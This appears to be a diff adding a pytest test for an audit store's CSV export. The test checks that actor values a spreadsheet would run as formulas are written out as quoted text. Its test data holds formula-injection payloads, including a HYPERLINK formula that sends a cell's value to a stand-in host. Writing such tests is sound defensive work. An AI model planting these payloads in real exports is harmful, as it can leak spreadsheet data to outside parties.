@@ -93,6 +93,30 @@ async def test_the_csv_export_holds_every_query_column_of_every_entry(store: Aud
     assert rows[0]["actor"] == "u-jilin" and rows[0]["task_id"] == "task-1" and rows[0]["actordept"] == "JILIN"
 
 
+async def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
+    """The actor is a token's ``sub``, which its issuer chose: opened in a spreadsheet, a cell
+    that begins with = + - @ (or a tab or return) would be a formula; it is written after a ``'``."""
+    records = []
+    for n, actor in enumerate(['=HYPERLINK("http://x/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "u-jilin"]):
+        event = encode(new_event(TaskProgressReported(task_id="task-1", percent=n), actor=actor))
+        records.append(LogRecord.kept(event.topic, 0, n, 1_700_000_000_000 + n, event.key, event.value, event.headers))
+    store = AuditStore(f"sqlite+aiosqlite:///{tmp_path / 'audit.db'}")
+    await store.open()
+    try:
+        await store.write(chained(records, store.head))
+        rows = list(csv.DictReader(io.StringIO((await exported(store, "csv")).decode())))
+    finally:
+        await store.close()
+    assert [row["actor"] for row in rows] == [
+        '\'=HYPERLINK("http://x/"&A1)',
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\tx",
+        "u-jilin",
+    ]
+
+
 @pytest.mark.parametrize("extension", [None, b"\xff\xfe"], ids=["no value", "not UTF-8"])
 async def test_an_event_with_a_stray_extension_header_is_shown_as_the_event_it_decodes_to(
     tmp_path: Path, extension: bytes | None
